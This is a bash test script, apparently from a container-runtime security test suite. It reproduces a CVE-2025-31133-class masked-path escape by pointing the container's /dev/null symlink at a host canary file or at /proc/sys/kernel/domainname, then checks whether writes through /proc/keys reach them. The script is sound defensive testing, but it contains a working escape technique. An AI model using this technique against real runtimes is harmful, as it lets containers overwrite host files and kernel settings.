#!/bin/bash
# CVE-2025-31133 class: masked paths are hidden by bind-mounting the container's /dev/null on
# them. /dev here is a shared volume (a bind mount of a $WORK directory, so the runtime does
# not create device nodes in it) whose `null` is a symlink:
#  1. /dev/null -> /canary/file, a file bind-mounted from $WORK/canarydir: the "mask" makes
#     /proc/keys (and the other masked files) that host file, which the container then writes
#     through /proc/keys. Escaped = $WORK/canarydir/file changed.
#  2. /dev/null -> /proc/sys/kernel/domainname: the mask makes /proc/keys a writable
#     /proc/sys file that the later read-only /proc/sys does not cover. The container has its
#     own UTS namespace (checked before it starts; the host's is never written). Escaped =
#     writing /proc/keys changed kernel.domainname as read back in the container.
# A runtime that refuses to start because /dev/null is not the device it must be: blocked.
. "$(dirname "$0")/lib.sh"

mkdir -p "$WORK/canarydir"
echo canary >"$WORK/canarydir/file"

# bundle NAME NULL-TARGET: a bundle whose /dev is a bind of $WORK/dev-NAME with null -> target.
bundle() {
    local b=$WORK/bundle-$1 dev=$WORK/dev-$1
    make_bundle "$b" "$1"
    mkdir -p "$dev"
    ln -s "$2" "$dev/null"
    cfg "$b" --arg dev "$dev" --arg can "$WORK/canarydir" '
        .mounts = [.mounts[] | if .destination == "/dev" then
                {destination: "/dev", type: "bind", source: $dev, options: ["rbind", "rw"]}
            else . end]
        + [{destination: "/canary", type: "bind", source: $can, options: ["rbind", "rw"]}]'
}

# --- 1: /dev/null -> /canary/file
bundle file /canary/file
set_args "$WORK/bundle-file" sh -c 'exec >>/report 2>&1
    echo "masked-keys: $(head -c 60 /proc/keys | tr "\n" " ")"
    echo pwned-through-proc-keys >/proc/keys && echo "write /proc/keys: ok"
    grep -E " /proc/(keys|timer_list) " /proc/self/mountinfo'
ID1=$ID_PREFIX-file
# The container reports in a file of its rootfs: its stdio may be redirected to its /dev/null.
rt run --bundle "$WORK/bundle-file" "$ID1" >"$WORK/out-file" 2>&1 </dev/null
rc1=$?
cat "$WORK/bundle-file/rootfs/report" >>"$WORK/out-file" 2>/dev/null
log "variant 1 (exit $rc1):"
cat "$WORK/out-file"
ESC=()
# The container never writes /canary/file by its own name: only through /proc/keys.
if grep -q pwned-through-proc-keys "$WORK/canarydir/file"; then
    ESC+=("/dev/null -> /canary/file: the mask bound the host file on /proc/keys and the container overwrote it through /proc/keys (now '$(head -c 40 "$WORK/canarydir/file" | tr '\n' ' ')')")
elif grep -q 'masked-keys: canary' "$WORK/out-file"; then
    ESC+=("/dev/null -> /canary/file: the mask bound the host file on /proc/keys (the container reads it there)")
elif [ "$(cat "$WORK/canarydir/file")" != canary ]; then
    log "note: the canary changed, but not through /proc/keys: '$(head -c 60 "$WORK/canarydir/file" | tr '\n' ' ')'"
    echo canary >"$WORK/canarydir/file"
fi

# --- 2: /dev/null -> /proc/sys/kernel/domainname
bundle uts /proc/sys/kernel/domainname
cfg "$WORK/bundle-uts" '.domainname = "before"'
set_args "$WORK/bundle-uts" sh -c 'exec >>/report 2>&1
    echo "domainname: $(cat /proc/sys/kernel/domainname)"
    echo "masked-keys: $(head -c 60 /proc/keys | tr "\n" " ")"
    echo "atk-through-keys" >/proc/keys && echo "write /proc/keys: ok"
    echo "domainname after: $(cat /proc/sys/kernel/domainname)"'
ID2=$ID_PREFIX-uts
if rt create --bundle "$WORK/bundle-uts" "$ID2" >"$WORK/out-uts" 2>&1 </dev/null; then
    pid=$(init_pid "$ID2")
    [ -n "$pid" ] && [ -e "/proc/$pid/ns/uts" ] || finish error "no init pid for $ID2"
    if [ "$(readlink "/proc/$pid/ns/uts")" = "$(readlink /proc/self/ns/uts)" ]; then
        finish error "the container shares the host's UTS namespace: not starting it"
    fi
    rt start "$ID2" >>"$WORK/out-uts" 2>&1
    wait_for "$WORK/bundle-uts/rootfs/report" 'domainname after' 10
    cat "$WORK/bundle-uts/rootfs/report" >>"$WORK/out-uts"
    rc2=0
else
    rc2=1
fi
log "variant 2 (create exit $rc2):"
cat "$WORK/out-uts"
if grep -q 'domainname after: atk-through-keys' "$WORK/out-uts"; then
    ESC+=("/dev/null -> /proc/sys/kernel/domainname: the mask left a writable /proc/sys file on /proc/keys; writing /proc/keys set the container's kernel.domainname")
fi
[ ${#ESC[@]} -gt 0 ] && finish escaped "$(printf '%s; ' "${ESC[@]}")"

# Neither escaped: tell a protection from a setup failure.
for v in file uts; do
    o=$WORK/out-$v
    if grep -q 'masked-keys' "$o"; then
        continue
    elif grep -qiE 'null|symlink|device' "$o"; then
        continue # refused because of /dev/null: the protection
    else
        finish error "variant $v: the container did not run and the refusal does not name /dev/null: $(oneline "$o")"
    fi
done
finish blocked "variant 1: $(grep -h 'masked-keys' "$WORK/out-file" | head -n1 || true)$(grep -q masked-keys "$WORK/out-file" || oneline "$WORK/out-file" 1); variant 2: $(grep -h 'domainname after' "$WORK/out-uts" || oneline "$WORK/out-uts" 1)"
